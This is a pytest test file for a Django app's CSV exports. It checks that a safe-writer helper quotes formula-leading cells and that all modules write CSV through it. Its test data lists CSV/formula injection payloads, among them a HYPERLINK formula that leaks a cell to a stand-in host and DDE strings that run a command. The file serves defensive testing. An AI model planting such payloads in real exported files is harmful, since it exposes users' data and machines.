"""Every CSV the app writes goes through config.safe_csv: a cell a spreadsheet would run as a
formula comes out as text (a leading '), planted here in every exported text column."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from assessments.models import Answer, Choice, Item
from assessments.services import item_csv
from config.safe_csv import SafeDictWriter, SafeWriter, safe_cell, unquote_cell
from rotation.models import Learner
from tests.assessments.factories import build_instrument
from tests.reports.seeding import seed_course

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&B2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_leading_cell_gets_a_leading_quote(payload):
    assert safe_cell(payload) == "'" + payload
    assert unquote_cell(safe_cell(payload)) == payload


@pytest.mark.parametrize(
    "value", [-3, 2.5, -0.5, None, "-3", "-0.25", "12", "plain text", "'=already quoted", ""]
)
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert safe_cell(value) == value


def test_both_writers_neutralize_every_cell():
    rows, dicts = io.StringIO(), io.StringIO()

    SafeWriter(rows).writerows([["=1", -1, "ok"]])
    writer = SafeDictWriter(dicts, fieldnames=["a", "b"])
    writer.writeheader()
    writer.writerow({"a": "@x", "b": "-1"})

    assert rows.getvalue() == "'=1,-1,ok\r\n"
    assert dicts.getvalue() == "a,b\r\n'@x,-1\r\n"


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_text_column_of_the_identified_export_is_neutralized(
    client, director, program, payload
):
    seeded = seed_course(program, learners=1)
    learner = seeded.learners[0]
    text_columns = ["first_name", "last_name", "email", "residency_program"]
    Learner.objects.filter(pk=learner.pk).update(**dict.fromkeys(text_columns, payload))
    Answer.objects.filter(response__learner=learner, item__kind="free_text").update(text=payload)
    client.force_login(director)

    response = client.get(reverse("reports:export_identified", args=[program.slug]))

    row = next(
        row
        for row in csv.DictReader(io.StringIO(response.content.decode()))
        if row["learner_id"] and row["email"] == "'" + payload
    )
    assert [row[name] for name in [*text_columns, "F1"]] == ["'" + payload] * 5


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_deidentified_export_has_no_text_column_but_its_own(client, director, program, payload):
    seed_course(program, learners=1)
    client.force_login(director)

    response = client.get(reverse("reports:export_deidentified", args=[program.slug]))

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert all(not str(cell).startswith(("=", "+", "@", "\t", "\r")) for r in rows for cell in r)


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_text_column_of_the_items_export_is_neutralized_and_imports_back(payload):
    instrument = build_instrument(knowledge=1, attitude=1, free_text=0)
    Item.objects.filter(instrument=instrument).update(
        text=payload, topic=payload[:120], explanation=payload, subscale=payload[:120]
    )
    label = payload.replace("|", "/")  # the export joins labels with |
    Item.objects.filter(instrument=instrument, kind="attitude").update(
        scale_labels=[label, "b", "c", "d", "e"]
    )
    Choice.objects.filter(item__instrument=instrument).update(text=payload)

    text = item_csv.export_items_csv(instrument=instrument)
    rows = list(csv.DictReader(io.StringIO(text)))
    knowledge, attitude = rows

    quoted = "'" + payload
    assert [knowledge[name] for name in ("text", "topic", "explanation", "subscale")] == [
        quoted,
        "'" + payload[:120],
        quoted,
        "'" + payload[:120],
    ]
    assert [knowledge[f"option_{n}"] for n in (1, 2, 3)] == [quoted] * 3
    assert attitude["scale_labels"] == "'" + label + "|b|c|d|e"
    specs = item_csv.parse_items_csv(text)
    assert [spec.text for spec in specs] == [payload, payload]
    assert [choice.text for choice in specs[0].choices] == [payload] * 3


def test_no_module_writes_csv_but_through_the_safe_writers():
    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(root))
        for package in root.glob("*/__init__.py")
        if package.parent.name != "tests"
        for path in package.parent.rglob("*.py")
        if writers.search(path.read_text()) and path != root / "config" / "safe_csv.py"
    ]

    assert offenders == []
